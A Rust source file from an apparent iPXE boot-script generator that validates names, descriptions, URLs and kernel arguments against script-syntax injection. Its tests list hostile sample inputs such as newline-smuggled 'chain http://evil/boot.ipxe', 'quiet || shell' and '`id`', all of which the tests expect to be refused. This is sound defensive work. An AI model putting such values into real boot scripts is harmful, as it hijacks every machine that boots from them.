//! The only strings an iPXE script is written from. iPXE splits a line into words at
//! whitespace, ends a command at `||` or `&&`, expands `${…}` anywhere, groups quoted text,
//! takes `\` as an escape and `#` as the start of a comment, and runs each line as a command:
//! an image description with a newline, a kernel argument `x || shell` or a name with `#` would
//! add commands to every machine's boot. So every name, description, URL and kernel argument
//! becomes a [`Word`], [`Words`] or [`BaseUrl`] where it enters (plan, index, inventory,
//! generation record, command line), and the writers in `mod.rs`, `publish`'s `entries.rs` and
//! the harness take nothing else. Allowed: printable ASCII other than iPXE's syntax characters;
//! anything else is refused with the offending character named, never escaped.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Printable ASCII that iPXE's parser gives a meaning to (`;` and `` ` `` are not iPXE syntax,
/// but are shell syntax wherever a script is pasted or logged).
const SYNTAX: &[u8] = b"#$\"'\\;|&`";

/// What is wrong with a string, for error messages that name the field.
fn refuse(s: &str, what: &str) -> Result<(), String> {
    if let Some(c) = s.chars().find(|c| !c.is_ascii_graphic() && *c != ' ') {
        return Err(format!(
            "{s:?} has {c:?}, which {what} cannot carry into an iPXE script: use printable ASCII"
        ));
    }
    if let Some(c) = s.bytes().find(|b| SYNTAX.contains(b)) {
        return Err(format!(
            "{s:?} has {:?}, which iPXE reads as script syntax: {what} may not contain any of {}",
            c as char,
            String::from_utf8_lossy(SYNTAX)
        ));
    }
    Ok(())
}

/// One word of an iPXE command: a name, a path, an URL, one kernel argument.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Word(String);

impl Word {
    pub fn new(s: impl Into<String>) -> Result<Word, String> {
        let s = s.into();
        if s.is_empty() {
            return Err("an empty word cannot go into an iPXE script".into());
        }
        if s.contains(' ') {
            return Err(format!("{s:?} has a space: one word is expected here"));
        }
        // Names, paths and URLs stand where iPXE's commands parse options (`initrd -n x`,
        // `item --gap`, `chain --autofree`): a leading `-` would make one an option.
        if s.starts_with('-') {
            return Err(format!(
                "{s:?} starts with '-', which iPXE would read as an option: a name, path or URL may not"
            ));
        }
        refuse(&s, "a word")?;
        Ok(Word(s))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

/// Maps keyed by image name can be looked up with a plain `&str` (same order and equality).
impl std::borrow::Borrow<str> for Word {
    fn borrow(&self) -> &str {
        &self.0
    }
}

/// Words separated by single spaces, possibly none: a kernel command line, a description, a
/// comment.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Words(String);

impl Words {
    pub fn new(s: impl Into<String>) -> Result<Words, String> {
        let s = s.into();
        refuse(&s, "this text")?;
        if s.starts_with(' ') || s.ends_with(' ') || s.contains("  ") {
            return Err(format!(
                "{s:?} has leading, trailing or doubled spaces: separate words by one space"
            ));
        }
        Ok(Words(s))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

/// The prefix of every object URL in a script: empty (relative to the script) or one word
/// ending in `/`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BaseUrl(String);

impl BaseUrl {
    pub fn new(s: impl Into<String>) -> Result<BaseUrl, String> {
        let s = s.into();
        if s.is_empty() {
            return Ok(BaseUrl(s));
        }
        if !s.ends_with('/') {
            return Err(format!(
                "--base-url {s:?} must end with '/' (or be empty for URLs relative to the script)"
            ));
        }
        Word::new(s.clone()).map_err(|e| format!("--base-url: {e}"))?;
        Ok(BaseUrl(s))
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }
}

macro_rules! string_type {
    ($t:ident) => {
        impl TryFrom<String> for $t {
            type Error = String;
            fn try_from(s: String) -> Result<$t, String> {
                $t::new(s)
            }
        }
        impl From<$t> for String {
            fn from(w: $t) -> String {
                w.0
            }
        }
        impl fmt::Display for $t {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(&self.0)
            }
        }
    };
}
string_type!(Word);
string_type!(Words);
string_type!(BaseUrl);

#[cfg(test)]
mod tests {
    use super::*;

    /// What a careless or hostile plan, inventory or index could hold.
    pub const HOSTILE: &[&str] = &[
        "x\nchain http://evil/boot.ipxe",
        "x\r\nshell",
        "quiet || shell",
        "quiet && chain http://evil/",
        "a ; chain http://evil/",
        "# comment",
        "diskless.hostname=a#b",
        "${net0/ip}",
        "$x",
        "\"quoted\"",
        "'quoted'",
        "back\\slash",
        "tab\there",
        "nul\0byte",
        "bell\x07",
        "caf\u{e9}",
        "`id`",
        "a | b",
    ];

    #[test]
    fn hostile_strings_are_refused_everywhere() {
        for s in HOSTILE {
            assert!(Word::new(*s).is_err(), "Word accepted {s:?}");
            assert!(Words::new(*s).is_err(), "Words accepted {s:?}");
            assert!(
                BaseUrl::new(format!("{s}/")).is_err(),
                "BaseUrl accepted {s:?}"
            );
        }
    }

    #[test]
    fn ordinary_strings_pass() {
        for w in [
            "worker",
            "console=ttyS0,115200",
            "http://boot.lab:8080/images/",
            "a.b-c_d",
        ] {
            Word::new(w).unwrap();
        }
        for t in [
            "",
            "console=ttyS0 panic=10",
            "diskless Kubernetes worker (v1.36)",
        ] {
            Words::new(t).unwrap();
        }
        BaseUrl::new("").unwrap();
        BaseUrl::new("http://boot.lab/images/").unwrap();
    }

    /// Found by the `ipxe_script` fuzz target (fuzz/corpus/ipxe_script/hostile-base.json):
    /// `--base-url -x/` made the kernel and initrd URLs `-x/objects/…`, which `kernel` and
    /// `initrd` parse as options.
    #[test]
    fn words_that_would_be_options_are_refused() {
        for s in ["-x/", "--name=evil/", "-"] {
            let e = Word::new(s).unwrap_err();
            assert!(e.contains("as an option"), "{e}");
            assert!(BaseUrl::new(s).is_err(), "BaseUrl accepted {s:?}");
        }
        // Inside a word, and in kernel arguments, a `-` is ordinary.
        Word::new("a-b").unwrap();
        Words::new("quiet -- --init-arg").unwrap();
    }

    #[test]
    fn errors_name_the_character_and_the_rule() {
        let e = Words::new("quiet || shell").unwrap_err();
        assert!(e.contains("'|'") && e.contains("script syntax"), "{e}");
        let e = Words::new("a\nb").unwrap_err();
        assert!(e.contains("'\\n'") && e.contains("printable ASCII"), "{e}");
        let e = Word::new("a b").unwrap_err();
        assert!(e.contains("one word"), "{e}");
        let e = Words::new("a  b").unwrap_err();
        assert!(e.contains("one space"), "{e}");
        let e = BaseUrl::new("http://x").unwrap_err();
        assert!(e.contains("must end with '/'"), "{e}");
    }

    #[test]
    fn deserializing_validates() {
        let e = serde_json::from_str::<Words>("\"a\\nchain x\"").unwrap_err();
        assert!(e.to_string().contains("printable ASCII"), "{e}");
        let w: Word = serde_json::from_str("\"worker\"").unwrap();
        assert_eq!(serde_json::to_string(&w).unwrap(), "\"worker\"");
    }
}
